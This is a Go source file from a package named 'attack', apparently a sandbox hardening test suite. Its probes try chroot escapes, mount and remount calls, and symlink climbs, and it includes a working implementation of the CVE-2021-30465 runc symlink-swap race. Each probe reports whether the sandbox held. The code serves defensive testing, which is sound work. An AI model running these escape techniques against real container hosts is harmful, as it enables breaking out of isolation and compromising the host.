//go:build linux

package attack

import (
	"bufio"
	"errors"
	"fmt"
	"os"
	"path"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// root tries to leave the sandbox's root or to change its mounts: the
// ways out of a chroot ("/..", the chroot-twice escape, a directory fd
// kept from before a chroot), every mount system call, old and fd-based,
// aimed at making the read-only tree writable or at unmasking /proc, and
// symlinks to "/" and "../../.." followed from /tmp. The sandbox's root is
// a pivot_root'ed tmpfs with the old root detached, and the seccomp policy
// refuses every mount call; climbing ".." from anywhere must end at the
// sandbox's own "/".
func root(r *Report, _ []string) {
	var top unix.Stat_t
	if err := unix.Stat("/", &top); err != nil {
		r.See("stat /", "%v", errName(err))
		return
	}
	for _, p := range []string{"/..", "/proc/self/root", "/proc/1/root", "/proc/self/root/..", "/proc/1/cwd"} {
		r.Try("climb .. from "+p+" out of the root", climbOut(unix.AT_FDCWD, p, &top))
	}
	for link, to := range map[string]string{"/tmp/sbxtest-to-root": "/", "/tmp/sbxtest-up": "../../..",
		"/tmp/sbxtest-proc-root": "/proc/1/root/.."} {
		if err := os.Symlink(to, link); err != nil {
			r.See("symlink "+link, "%v", errName(err))
			continue
		}
		r.Try("follow "+link+" -> "+to+" out of the root", climbOut(unix.AT_FDCWD, link, &top))
	}
	chrootEscape(r, &top)
	mounts(r)
	newMountAPI(r)
	// What the mount attempts would have changed, should one have worked.
	r.Try("create a file in the read-only /usr", createBeside("/usr/sbxtest"))
	r.Try("create a file in the read-only /", createBeside("/sbxtest"))
	for _, p := range []string{"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug"} {
		if _, err := os.Lstat(p); err == nil { // not every kernel has each
			r.Try("find "+p+" unmasked", notCharDevice(p))
		}
	}
	r.Try("climb .. from / out of the root, after all", climbOut(unix.AT_FDCWD, "/", &top))
}

// chrootEscape is the classic way out of a chroot for a process that may
// chroot: chroot into a subdirectory while the working directory stays
// above it, walk ".." past the new root, and chroot to where that ends.
// A directory fd opened before the chroot is a second way back.
func chrootEscape(r *Report, top *unix.Stat_t) {
	os.MkdirAll("/tmp/sbxtest-jail/old", 0o755)
	before, err := unix.Open("/tmp", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		r.See("open /tmp", "%v", errName(err))
		return
	}
	defer unix.Close(before)
	r.Try("chroot /tmp/sbxtest-jail", unix.Chroot("/tmp/sbxtest-jail"))
	for range 64 {
		unix.Chdir("..")
	}
	r.Try("chroot . after 64 chdir ..", unix.Chroot("."))
	r.Try("climb .. out of the root after the chroot escape", climbOut(unix.AT_FDCWD, ".", top))
	if err := unix.Fchdir(before); err != nil {
		r.See("fchdir to an fd opened before the chroot", "%v", errName(err))
	} else {
		r.Try("climb .. from the fd opened before the chroot out of the root", climbOut(unix.AT_FDCWD, ".", top))
	}
	r.Try("pivot_root /tmp/sbxtest-jail", unix.PivotRoot("/tmp/sbxtest-jail", "/tmp/sbxtest-jail/old"))
	unix.Chdir("/")
}

// mounts tries mount(2) and umount2(2): new filesystems, a bind of "/",
// read-write remounts of the read-only tree, and unmounting the masks
// over /proc.
func mounts(r *Report) {
	const at = "/tmp/sbxtest-mnt"
	os.MkdirAll(at, 0o755)
	for _, m := range []struct {
		what, src, fstype string
		flags             uintptr
	}{
		{"mount proc", "proc", "proc", 0},
		{"mount tmpfs", "tmpfs", "tmpfs", 0},
		{"mount sysfs", "sysfs", "sysfs", 0},
		{"bind /", "/", "", unix.MS_BIND | unix.MS_REC},
		{"bind /proc/1/root", "/proc/1/root", "", unix.MS_BIND | unix.MS_REC},
	} {
		r.Try(m.what+" at "+at, unix.Mount(m.src, at, m.fstype, m.flags, ""))
	}
	for _, p := range []string{"/", "/usr", "/proc/sys", "/dev"} {
		r.Try("remount "+p+" read-write", unix.Mount("", p, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	}
	r.Try("make / shared", unix.Mount("", "/", "", unix.MS_SHARED|unix.MS_REC, ""))
	for _, p := range []string{"/proc/kcore", "/proc/keys", "/proc/sys", "/proc/acpi", "/usr"} {
		r.Try("umount2 "+p, unix.Unmount(p, unix.MNT_DETACH))
	}
}

// newMountAPI tries the fd-based mount calls: a new filesystem, a picked
// existing one to reconfigure, a detached copy of "/", moving the mask off
// /proc/keys, and clearing the read-only flag of /usr.
func newMountAPI(r *Report) {
	const at = "/tmp/sbxtest-mnt"
	if fd, err := unix.Fsopen("tmpfs", unix.FSOPEN_CLOEXEC); r.Try("fsopen tmpfs", err) {
		unix.Close(fd)
	}
	if fd, err := unix.Fspick(unix.AT_FDCWD, "/usr", unix.FSPICK_CLOEXEC); r.Try("fspick /usr", err) {
		r.Try("fsconfig reconfigure /usr read-write",
			errors.Join(unix.FsconfigSetFlag(fd, "rw"), unix.FsconfigReconfigure(fd)))
		unix.Close(fd)
	}
	if fd, err := unix.OpenTree(unix.AT_FDCWD, "/", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_RECURSIVE); r.Try("open_tree clone /", err) {
		r.Try("move_mount the clone of / to "+at, unix.MoveMount(fd, "", unix.AT_FDCWD, at, unix.MOVE_MOUNT_F_EMPTY_PATH))
		unix.Close(fd)
	}
	r.Try("move_mount the mask of /proc/keys away", unix.MoveMount(unix.AT_FDCWD, "/proc/keys", unix.AT_FDCWD, at, 0))
	r.Try("mount_setattr clear read-only on /usr",
		unix.MountSetattr(unix.AT_FDCWD, "/usr", 0, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
	r.Try("mount_setattr clear read-only on / recursively",
		unix.MountSetattr(unix.AT_FDCWD, "/", unix.AT_RECURSIVE, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
}

// notCharDevice is nil when p is anything but the character device that
// masks it (a masked /proc file is /dev/null bound over it).
func notCharDevice(p string) error {
	var st unix.Stat_t
	if err := unix.Stat(p, &st); err != nil {
		return err
	}
	if st.Mode&unix.S_IFMT == unix.S_IFCHR {
		return errors.New("masked")
	}
	return nil
}

// swap is the attacker's half of CVE-2021-30465: runc mounted a volume at
// a path inside the container's rootfs, and a container sharing that
// volume swapped a path component for a symlink between runc's check and
// its mount(2), so the mount landed on the host. This swaps the directory
// args[0] (in the session's shared workspace, where another Run's bind
// targets it) with symlinks to "/", "/etc", "../../../.." and a /proc
// magic link, atomically (renameat2 RENAME_EXCHANGE), as fast as it can,
// until the file args[1] appears or args[2] (a duration) passes.
func swap(r *Report, args []string) {
	if len(args) < 3 {
		r.See("usage", "swap DIR STOPFILE DURATION")
		return
	}
	dir, stop := args[0], args[1]
	d, err := time.ParseDuration(args[2])
	if err != nil {
		r.See("usage", "%v", err)
		return
	}
	parent, name := path.Split(dir)
	pfd, err := unix.Open(parent, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		r.See("open "+parent, "%v", errName(err))
		return
	}
	defer unix.Close(pfd)
	if err := unix.Mkdirat(pfd, name, 0o755); err != nil && !errors.Is(err, unix.EEXIST) {
		r.See("mkdir "+dir, "%v", errName(err))
		return
	}
	var links []string
	for i, to := range []string{"/", "/etc", "../../../..", "/proc/self/root"} {
		l := fmt.Sprintf(".%s-link%d", name, i)
		unix.Unlinkat(pfd, l, 0)
		if err := unix.Symlinkat(to, pfd, l); err != nil {
			r.See("symlink "+l, "%v", errName(err))
			continue
		}
		links = append(links, l)
	}
	if len(links) == 0 {
		return
	}
	// Swap until told to stop; the stop file is looked at every 256 swaps.
	n, mode := 0, "RENAME_EXCHANGE"
	var last error
	for end := time.Now().Add(d); time.Now().Before(end); {
		for range 256 {
			l := links[n%len(links)]
			err := unix.Renameat2(pfd, name, pfd, l, unix.RENAME_EXCHANGE)
			if errors.Is(err, unix.EINVAL) {
				mode, err = "rename", swapByRename(pfd, name, l)
			} else if err == nil {
				// Back again: the directory stays under its name half
				// of the time.
				err = unix.Renameat2(pfd, name, pfd, l, unix.RENAME_EXCHANGE)
			}
			if err != nil {
				last = err
			}
			n++
		}
		if _, err := os.Lstat(stop); err == nil {
			break
		}
	}
	r.See("swaps", "%d", n)
	r.See("mode", "%s", mode)
	if last != nil {
		r.See("last error", "%v", errName(last))
	}
}

// swapByRename puts the symlink l under name and back, for filesystems
// without RENAME_EXCHANGE: the directory moves aside, the link takes its
// name, and both move back.
func swapByRename(pfd int, name, l string) error {
	aside := "." + name + "-dir"
	if err := unix.Renameat(pfd, name, pfd, aside); err != nil {
		return err
	}
	err := unix.Renameat(pfd, l, pfd, name)
	if err == nil {
		err = unix.Renameat(pfd, name, pfd, l)
	}
	return errors.Join(err, unix.Renameat(pfd, aside, pfd, name))
}

// landed reports where a bind of the host directory args[0] (its root as
// the host's mountinfo shows it) was mounted in this sandbox, in which of
// the directories args[3:] the marker file args[1] can be seen, and
// whether the host-only path args[2] is visible (it would be if a host
// tree had been mounted over the sandbox's own).
func landed(r *Report, args []string) {
	if len(args) < 3 {
		r.See("usage", "landed HOSTDIR MARKER HOSTONLY [DIR...]")
		return
	}
	src, marker, hostOnly := args[0], args[1], args[2]
	f, err := os.Open("/proc/self/mountinfo")
	if err != nil {
		r.See("open mountinfo", "%v", errName(err))
		return
	}
	defer f.Close()
	var at []string
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		// Fields 4 and 5: the mount's root within its filesystem, and
		// its mount point. The root is the source's host path less the
		// mount point of the host filesystem it is on (/tmp may be one).
		fl := strings.Fields(sc.Text())
		if len(fl) > 4 && fl[3] != "/" && (strings.HasSuffix(src, fl[3]) || strings.HasPrefix(fl[3], src+"/")) {
			at = append(at, fl[4])
		}
	}
	r.See("mounted at", "%s", strings.Join(at, " "))
	var through []string
	for _, p := range at {
		if _, err := os.Lstat(path.Join(p, marker)); err == nil {
			through = append(through, p)
		}
	}
	r.See("marker through mount point", "%s", strings.Join(through, " "))
	var seen []string
	for _, p := range args[3:] {
		if _, err := os.Lstat(path.Join(p, marker)); err == nil {
			seen = append(seen, p)
		}
	}
	r.See("marker in", "%s", strings.Join(seen, " "))
	_, err = os.Lstat(hostOnly)
	r.Try("see host-only "+hostOnly, err)
	var top unix.Stat_t
	if err := unix.Stat("/", &top); err == nil {
		r.Try("climb .. from /workspace out of the root", climbOut(unix.AT_FDCWD, "/workspace", &top))
	}
}

func init() {
	register("root", root)
	register("swap", swap)
	register("landed", landed)
}
